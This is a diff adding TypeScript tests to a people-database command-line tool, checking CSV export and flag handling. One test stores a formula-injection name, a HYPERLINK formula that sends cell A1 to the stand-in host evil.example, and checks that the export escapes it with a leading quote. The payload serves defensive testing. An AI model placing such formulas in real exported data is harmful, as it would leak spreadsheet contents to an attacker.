@@ -2,6 +2,7 @@
 // SPDX-License-Identifier: AGPL-3.0-or-later
 import assert from "node:assert/strict";
 import { test } from "node:test";
+import { parse } from "csv-parse/sync";
 import { openAccount } from "../data/accounts/account.ts";
 import { registerPayment } from "../data/payments/register-payment.ts";
 import { setConsent } from "../data/people/consent.ts";
@@ -78,4 +79,36 @@ test("a hostile name steers no terminal", async () => {
     const [found] = JSON.parse(json).people ?? [JSON.parse(json)];
     assert.equal(found.name, name);
   }
+});
+
+test("lists come as CSV for spreadsheets, in which nothing is calculated", async () => {
+  const name = '=HYPERLINK("http://evil.example/?"&A1)';
+  await database.transaction(administrator, (work) => makePerson(work, { name, email: "formula@example.org" }));
+  const { code, out } = await cdb("people", "find", "formula@", "--csv");
+  const [header, row] = parse(out) as string[][];
+  assert.deepEqual(header?.slice(0, 5), ["id", "name", "email", "language", "kind"]);
+  assert.deepEqual(row?.slice(1, 4), [`'${name}`, "formula@example.org", "en"]);
+  assert.equal(code, 0);
+  for (const args of [
+    ["people", "history", "zoe"],
+    ["people", "select", 'registration == "confirmed"'],
+    ["consents", "show", "zoe"],
+    ["consents", "proof", "zoe"],
+    ["payments", "list"],
+    ["mail", "queue"],
+  ]) {
+    const listed = await cdb(...args, "--csv");
+    assert.equal(listed.err, "", args.join(" "));
+    const [columns, ...rows] = parse(listed.out) as string[][];
+    assert.ok(columns && columns.length > 3, args.join(" "));
+    if (args[0] === "payments") assert.deepEqual(rows[0]?.slice(2, 5), ["25.00", "EUR", "received"]);
+  }
+});
+
+test("JSON and CSV at once, or CSV of what is no list, is exit code 2 and nothing is done", async () => {
+  assert.equal((await cdb("people", "find", "zoe", "--csv", "--json")).code, 2);
+  const { code, err } = await cdb("people", "block", "zoe", "--csv");
+  assert.match(err, /unknown option '--csv'/);
+  assert.equal(code, 2);
+  assert.equal(JSON.parse((await cdb("people", "show", "zoe", "--json")).out).registration, "confirmed");
 });
